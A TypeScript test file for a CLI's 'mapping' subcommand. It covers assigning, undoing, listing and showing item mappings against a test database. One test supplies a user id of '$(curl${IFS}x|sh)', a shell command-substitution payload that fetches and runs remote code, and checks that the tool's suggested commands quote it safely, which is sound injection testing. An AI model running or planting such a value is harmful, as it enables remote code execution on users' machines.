// What `sluice mapping` tells a person, against the tables.
import type { Command } from 'commander'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import type { Io } from '../../src/cli/io.ts'
import { mappingCommand } from '../../src/cli/mapping.ts'
import { batchOf, lineItem, linesAt, openSink, type OpenSink, openTestDatabase, startAt, type TestDatabase } from '../support/sink.ts' // prettier-ignore

let db: TestDatabase
let open: OpenSink
beforeAll(async () => {
  db = await openTestDatabase()
  open = openSink(db.url)
})
afterAll(async () => {
  await open.close()
  await db.close()
})
beforeEach(async () => {
  await db.query(`TRUNCATE item, item_mapping, item_word, ledger_entry, inventory, consumer_offset, mapping_change,
    mapping_change_key RESTART IDENTITY`)
  open.mappings.clear()
  await startAt(open, [0])
  next = 0n
})

let next = 0n
const write = async (...lines: readonly (readonly [sku: string | null, description: string, userId?: string])[]) => {
  const items = lines.map(([sku, description, userId = 'u-1']) => lineItem({ sku, description, userId, quantity: '2' }))
  await open.sink.write(batchOf(linesAt(0, next, items)))
  next += BigInt(items.length)
}
/** What it writes, and what it is refused with. */
const mapping = async (...args: string[]): Promise<string> => {
  let written = ''
  const stream = { write: (text: string, then?: () => void) => ((written += text), then?.(), true) }
  const io = { stdout: stream, stderr: stream, env: { DATABASE_URL: db.url }, drain: new AbortController().signal }
  const command: Command = mappingCommand(io as unknown as Io, () => {})
  try {
    await command.parseAsync(args, { from: 'user' })
  } catch (error) {
    return `${written}${(error as Error).message}\n${(error as { remedy: string }).remedy}`
  }
  return written
}
const itemOf = async (vendorKey: string) =>
  (await db.query<{ item_id: string }>('SELECT item_id FROM item_mapping WHERE vendor_key = $1', [vendorKey]))[0]!.item_id // prettier-ignore

it('assign older:N counts the rows that were moved before, and those that were not', async () => {
  await write(['CUP', 'Red cup'], ['CUP', 'Red cup'], ['LAMP', 'Desk lamp'])
  const [cup, lamp] = [await itemOf('sku:CUP'), await itemOf('sku:LAMP')]
  await db.query('UPDATE ledger_entry SET mapping_id = NULL')
  const older = ['assign', 'u-1', `older:${cup}`, '--to', `item:${lamp}`]
  await mapping(...older)
  await mapping('undo', 'u-1')
  await write(['CUP', 'Red cup'])
  await db.query("UPDATE ledger_entry SET mapping_id = NULL WHERE mapping_id = (SELECT id FROM item_mapping WHERE vendor_key = 'sku:CUP')") // prettier-ignore
  expect(await mapping(...older, '--dry-run')).toContain('  3 ledger rows, quantity 6\n')
  expect(await mapping(...older)).toContain('  3 ledger rows, quantity 6\n')
})

it('an undo says that it finishes another one that was cut short', async () => {
  await write(['CUP', 'Red cup'], ['LAMP', 'Desk lamp'])
  await mapping('assign', 'u-1', 'CUP', '--to', 'LAMP')
  await mapping('assign', 'u-1', 'Red cup', '--to', 'LAMP')
  await mapping('undo', 'u-1')
  await db.query('UPDATE mapping_change SET moved_at = NULL WHERE id = 3')
  expect(await mapping('undo', 'u-1', '--dry-run')).toContain('the undo of change 2 is half done: its ledger rows are moved first\n') // prettier-ignore
})

it('list --score-below goes on behind a mapping that a person assigned meanwhile', async () => {
  await write([null, 'White hanging heart t-light holder'], [null, 'Red wicker basket'], [null, 'Desk lamp'])
  await write([null, 'Red wickre basket'], [null, 'White hanging heart tlight holder'])
  expect(await db.query('SELECT method FROM item_mapping WHERE score IS NOT NULL')).toEqual([{ method: 'fuzzy' }, { method: 'fuzzy' }]) // prettier-ignore
  const first = await mapping('list', '--score-below', '1', '--limit', '1')
  expect(first).toContain('text:red wickre basket')
  const [, after = ''] = /the same command with --after (\S+)\n/.exec(first) ?? []
  await mapping('assign', 'u-1', 'Red wickre basket', '--to', 'Desk lamp')
  const second = await mapping('list', '--score-below', '1', '--limit', '1', '--after', after)
  expect(second).toContain('text:white hanging heart tlight holder')
  expect(second).not.toContain('--after')
  expect(await mapping('list', '--limit', '1', '--after', after)).toMatch(/^--after belongs to another order/)
  expect(await mapping('list', '--limit', '1', '--after', '2')).toContain('text:white hanging heart t light holder')
})

it('what a vendor sent as user is one word of each command to copy', async () => {
  const user = '$(curl${IFS}x|sh)'
  const word = `'${user}'`
  await write(['CUP', 'Red cup', user], ['LAMP', 'Desk lamp', user], ['CUP', 'Red cup', user])
  await db.query('UPDATE ledger_entry SET mapping_id = NULL WHERE record_offset = 2')
  const assigned = await mapping('assign', user, 'CUP', '--to', 'LAMP')
  expect(assigned).toContain(`sluice mapping undo ${word}\n`)
  expect(assigned).toContain(`sluice mapping assign ${word} older:`)
  expect(await mapping('show', user, 'NONE')).toContain(`sluice mapping list --user ${word} --text`)
  expect(await mapping('show', user, 'item:999')).toContain(`sluice mapping list --user ${word}`)
  await db.query('UPDATE mapping_change SET moved_at = NULL')
  expect(await mapping('show', user, 'CUP')).toContain(`sluice mapping finish ${word}\n`)
})
